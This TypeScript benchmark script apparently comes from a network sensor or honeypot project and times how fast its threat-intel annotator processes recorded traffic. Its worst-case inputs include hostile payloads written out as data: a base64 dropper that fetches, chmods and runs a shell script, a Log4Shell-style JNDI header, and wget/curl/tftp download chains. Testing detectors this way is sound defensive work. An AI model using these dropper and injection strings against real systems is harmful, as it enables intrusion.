// Intel stage throughput: session events through the real annotator (startIntel on a bus: the kept bytes,
// protocol id, all shipped rules, IOC extraction, signature with its sha256, benign ranges), on a mix of
// realistic payloads and on worst-case 8 KiB hostile payloads, beside sha256 of the same payloads only, in the
// same run (medians of alternating rounds). CPU per session is compared with the listener's CPU per
// connection (bench/listener; --listener-us, default the last figure in docs/benchmarks.md).
// Usage: node dist/bench/intel/run.js [--sessions 20000] [--rounds 5] [--listener-us 40] [--mix-only]
import { hash } from 'node:crypto';
import { parseArgs } from 'node:util';
import { loadConfig } from '../../src/config/load.js';
import { EventBus } from '../../src/core/bus.js';
import type { SessionEvent } from '../../src/core/events.js';
import { createLogger } from '../../src/core/log.js';
import { sessionEvent } from '../../src/core/session-event.js';
import { Stats } from '../../src/core/stats.js';
import { startIntel } from '../../src/intel/index.js';

const { values: a } = parseArgs({
  options: {
    sessions: { type: 'string', default: '20000' },
    rounds: { type: 'string', default: '5' },
    'listener-us': { type: 'string', default: '40' },
    'mix-only': { type: 'boolean', default: false },
  },
});
const SESSIONS = Math.min(Number(a.sessions), 1_000_000);
const ROUNDS = Math.min(Number(a.rounds), 20);
const LISTENER_US = Number(a['listener-us']);

const txt = (s: string): Buffer => Buffer.from(s, 'latin1');
const hex = (h: string): Buffer => Buffer.from(h.replace(/\s+/g, ''), 'hex');

const bus = new EventBus();
const stats = new Stats();
const cfg = loadConfig({ flags: { sensor: 'bench', geoip: 'off' } });
const intel = await startIntel({ cfg, bus, stats, log: createLogger('warn') });

/**
 * What a sensor on the internet records, weighted by how often: most connections send nothing or a
 * scanner's probe; a few carry an exploit (the shipped rules' fixtures, all of them in turn).
 */
const fixtures = intel.rules.flatMap((r) =>
  r.fixture ? [[r.fixture.port, r.fixture.payload] as const] : [],
);
const REALISTIC: [number, number, Buffer][] = [
  // [weight, port, payload]
  [30, 23, Buffer.alloc(0)], // connect only
  [8, 80, txt('GET / HTTP/1.1\r\nHost: 198.18.0.1\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n')],
  [
    6,
    8080,
    txt(
      'GET /favicon.ico HTTP/1.1\r\nHost: 198.18.0.1:8080\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) ' +
        'Gecko/20100101 Firefox/128.0\r\nAccept: image/avif,image/webp,*/*\r\nAccept-Encoding: gzip\r\n\r\n',
    ),
  ],
  [4, 80, txt('GET / HTTP/1.0\r\n\r\n')],
  [3, 443, txt('GET /.env HTTP/1.1\r\nHost: 198.18.0.1\r\nUser-Agent: Go-http-client/1.1\r\n\r\n')],
  [8, 22, txt('SSH-2.0-Go\r\n')],
  [
    8,
    443,
    hex(
      '16030100c4010000c00303' +
        '4e1dd4df14d5ee4f0b62cbc7e4e1a9f8fc3cdffcff53b9c2a8c4acb62c1c1e3d' +
        '000020c02bc02fc02cc030cca9cca8c013c014009c009d002f0035c012000a130113021303' +
        '0100006f0000000f000d00000a6578616d706c652e636f6d000b000403000102000a000c000a001d001700180019001e' +
        '0023000000160000001700000010000e000c02683208687474702f312e31000d0014001204030804040105030805050108060601',
    ),
  ],
  [
    5,
    3389,
    hex(
      '030000 2b 26 e0 00 00 00 00 00 43 6f 6f 6b 69 65 3a 20 6d 73 74 73 68 61 73 68 3d 41 64 6d 69 6e 0d 0a 01 00 08 00 0b 00 00 00',
    ),
  ],
  [4, 6379, txt('*1\r\n$4\r\nPING\r\n')],
  [4, 23, txt('\r\n\r\n')],
  [3, 5555, hex('434e584e00000001001000000700000032020000bcb1a7b1686f73743a3a00')],
  [3, 4444, Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 151 + 7) & 0xff))], // binary noise
  [2, 23, txt('enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n')],
  [12, 0, Buffer.alloc(0)], // placeholder: the rules' fixtures, in turn
];

/** Worst cases: 8 KiB of what makes each part work hardest (all attacker-controlled). */
function hostile(): [string, number, Buffer][] {
  const fill = (unit: string, head = '', tail = ''): Buffer => {
    const n = 8192 - head.length - tail.length;
    return txt(head + unit.repeat(Math.ceil(n / unit.length)).slice(0, n) + tail);
  };
  const b64 = Buffer.from('wget http://198.51.100.7/x.sh; chmod 777 x.sh; '.repeat(200)).toString('base64');
  return [
    [
      'HTTP, 8 KiB path of %-escapes and wget',
      80,
      fill('%77get+http://a.b/%2e%2e/', 'GET /', ' HTTP/1.1\r\nHost: a\r\n\r\n'),
    ],
    [
      'HTTP, 8 KiB of short headers',
      80,
      fill('X-A: ${jndi:ldap://a.b/c}\r\n', 'POST /cgi-bin/x HTTP/1.1\r\n', '\r\n'),
    ],
    ['shell: wget/curl/tftp words', 23, fill('wget a.b/c; curl -o x d.e/f; tftp -g -r g h.i; ')],
    ['URL schemes back to back', 23, fill('http://http://ftp://tftp://')],
    ['base64 -d of a dropper', 23, txt(`echo ${b64} | base64 -d | sh`.slice(0, 8192))],
    ['echo -e hex escapes', 23, fill('\\x41\\x42', "echo -e '", "'")],
    ['one byte repeated', 4444, Buffer.alloc(8192, 0x61)],
    ['binary noise', 4444, Buffer.from(Array.from({ length: 8192 }, (_, i) => (i * 2654435761) >>> 24))],
  ];
}

/** One session event per payload, as the listener emits them (payload entries in base64). */
function events(list: readonly [number, Buffer][]): SessionEvent[] {
  const t = Date.now();
  return list.map(([dport, data], i) =>
    sessionEvent('bench', {
      ...{ proto: 'tcp', src: `203.0.113.${i % 250}`, sport: 40000 + (i % 20000), dst: '198.18.0.1', dport },
      ...{ started: t, ended: t, bytes: data.length, truncated: false, close: 'fin' },
      payloads: data.length ? [{ time: t, data }] : [],
    }),
  );
}

function realisticMix(n: number): [number, Buffer][] {
  const deck: [number, Buffer][] = [];
  let f = 0;
  for (const [w, port, p] of REALISTIC)
    for (let i = 0; i < w; i++) {
      if (port === 0) {
        const [fp, fb] = fixtures[f++ % fixtures.length]!;
        deck.push([fp, fb]);
      } else deck.push([port, p]);
    }
  return Array.from({ length: n }, (_, i) => deck[(i * 37) % deck.length]!);
}

const cpuUs = (): number => {
  const u = process.cpuUsage();
  return u.user + u.system;
};
const median = (xs: number[]): number => [...xs].sort((x, y) => x - y)[Math.floor(xs.length / 2)]!;

/** CPU µs per session through the intel annotator (fresh events each round: it writes into them). */
function stage(list: readonly [number, Buffer][]): number {
  const evs = events(list);
  const c0 = cpuUs();
  for (const ev of evs) bus.emit(ev);
  return (cpuUs() - c0) / evs.length;
}

/** The reference: sha256 of the same payloads, nothing else. */
function hashOnly(list: readonly [number, Buffer][]): number {
  const c0 = cpuUs();
  let x = 0;
  for (const [, p] of list) x ^= hash('sha256', p, 'buffer')[0]!;
  const us = (cpuUs() - c0) / list.length;
  return x === 256 ? -1 : us;
}

function measure(name: string, list: readonly [number, Buffer][]): { stage: number; hash: number } {
  stage(list.slice(0, 2000)); // warm-up
  const s: number[] = [];
  const h: number[] = [];
  for (let r = 0; r < ROUNDS; r++) {
    s.push(stage(list));
    h.push(hashOnly(list));
  }
  const out = { stage: median(s), hash: median(h) };
  console.log(
    `${name}: ${out.stage.toFixed(2)} µs/session (${Math.round(1e6 / out.stage)} sessions/s per core), ` +
      `sha256 only ${out.hash.toFixed(2)} µs (stage/sha256 ${(out.stage / out.hash).toFixed(1)}x)`,
  );
  return out;
}

const mix = realisticMix(SESSIONS);
const bytes = mix.reduce((n, [, p]) => n + p.length, 0);
console.log(
  `realistic mix: ${SESSIONS} sessions, ${(bytes / SESSIONS).toFixed(0)} B average, ` +
    `${intel.rules.length} rules; medians of ${ROUNDS} rounds`,
);
const real = measure('realistic mix', mix);
const hits = stats.get('intel_rule_hits_total');
for (const [name, port, p] of a['mix-only'] ? [] : hostile())
  measure(
    `hostile 8 KiB, ${name}`,
    Array.from({ length: Math.ceil(SESSIONS / 10) }, () => [port, p]),
  );
console.log(
  `realistic mix against the listener's ${LISTENER_US} µs CPU per connection: ` +
    `${((100 * real.stage) / LISTENER_US).toFixed(1)}% (target < 10%); rule hits counted ${hits}`,
);
await intel.close();
